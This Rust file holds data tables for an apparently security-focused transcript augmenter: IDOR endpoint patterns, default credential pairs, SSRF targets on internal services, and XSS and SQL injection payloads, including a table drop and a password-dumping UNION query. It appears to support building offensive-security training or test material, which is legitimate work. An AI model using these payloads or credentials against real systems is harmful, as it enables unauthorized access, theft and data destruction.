//! Substitution tables for the augmenter.
//!
//! These are tunable data, not algorithmic logic: tests substitute minimal
//! fixtures and operators can extend the lists without touching the
//! augmentation passes.

/// ID patterns rewritten during IDOR augmentation: (pattern, label, max
/// random increment). The matched numeric ID is bumped by 1..=max.
pub const IDOR_ID_PATTERNS: &[(&str, &str, u64)] = &[
    (r"(?i)user\s*id\s*(\d+)", "user id", 10),
    (r"(?i)company\s*(\d+)", "company", 5),
    (r"(?i)job\s*(\d+)", "job", 20),
    (r"(?i)order\s*(\d+)", "order", 15),
    (r"(?i)profile\s*(\d+)", "profile", 8),
];

/// Replacement endpoints for IDOR variants.
pub const IDOR_ENDPOINTS: &[&str] = &[
    "/api/users/",
    "/api/companies/",
    "/api/jobs/",
    "/api/orders/",
    "/api/profiles/",
    "/admin/users/",
    "/admin/companies/",
    "/admin/jobs/",
    "/admin/orders/",
    "/user/profile/",
    "/company/jobs/",
    "/order/details/",
    "/profile/settings/",
];

/// Endpoints recognized in message content and swapped for a random
/// replacement.
pub const IDOR_SOURCE_ENDPOINTS: &[&str] = &["/company/2/jobs", "/user/1/profile", "/api/user/1"];

/// Endpoints recognized inside tool-call command strings.
pub const IDOR_COMMAND_SOURCE_ENDPOINTS: &[&str] = &["/company/2/jobs", "/user/1/profile"];

/// Common default credential pairs.
pub const CRED_PAIRS: &[(&str, &str)] = &[
    ("admin", "admin"),
    ("admin", "password"),
    ("admin", "123456"),
    ("root", "root"),
    ("root", "password"),
    ("root", "toor"),
    ("user", "user"),
    ("user", "password"),
    ("user", "123456"),
    ("demo", "demo"),
    ("test", "test"),
    ("guest", "guest"),
    ("administrator", "administrator"),
    ("system", "system"),
    ("default", "default"),
    ("cisco", "cisco"),
    ("admin", "cisco"),
];

pub const SSRF_PAYLOADS: &[&str] = &[
    "http://localhost:8080",
    "http://127.0.0.1:3306",
    "http://10.0.0.1:22",
    "http://172.17.0.1:6379",
    "http://192.168.1.1:80",
    "http://0.0.0.0:8080",
    "http://internal-service:8080",
    "http://database:5432",
    "http://redis:6379",
    "http://admin-panel:8080",
    "http://api-gateway:3000",
    "http://auth-service:5000",
];

pub const SSRF_PARAMETERS: &[&str] = &[
    "url", "redirect", "callback", "next", "target", "link", "href", "src",
];

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(\"XSS\")</script>",
    "<img src=x onerror=alert(\"XSS\")>",
    "<svg onload=alert(\"XSS\")>",
    "javascript:alert(\"XSS\")",
    "\"><script>alert(\"XSS\")</script>",
    "'><script>alert(\"XSS\")</script>",
    "<iframe src=\"javascript:alert('XSS')\">",
    "<body onload=alert(\"XSS\")>",
    "<input onfocus=alert(\"XSS\") autofocus>",
    "<textarea onblur=alert(\"XSS\")>",
];

pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR 1=1--",
    "' UNION SELECT NULL--",
    "' UNION SELECT username,password FROM users--",
    "'; DROP TABLE users--",
    "' OR '1'='1",
    "admin'--",
    "1' OR '1'='1'--",
    "' UNION SELECT 1,2,3--",
    "'; WAITFOR DELAY '00:00:05'--",
    "' AND (SELECT COUNT(*) FROM users)>0--",
];

/// Replacement target URLs for general augmentation.
pub const GENERAL_TARGET_URLS: &[&str] = &[
    "http://172.17.0.1:32775",
    "http://172.17.0.1:32776",
    "http://172.17.0.1:32777",
    "http://10.0.0.1:8080",
    "http://192.168.1.100:3000",
    "http://localhost:8080",
    "http://target-app:8080",
    "http://vulnerable-app:3000",
    "http://test-server:5000",
];

/// Replacement flag tokens for general augmentation.
pub const GENERAL_FLAGS: &[&str] = &[
    "FLAG{free-palestine}",
    "FLAG{security-test}",
    "FLAG{vulnerability-found}",
    "FLAG{exploit-success}",
    "FLAG{ctf-challenge}",
    "FLAG{penetration-test}",
    "FLAG{security-breach}",
    "FLAG{unauthorized-access}",
    "FLAG{privilege-escalation}",
];
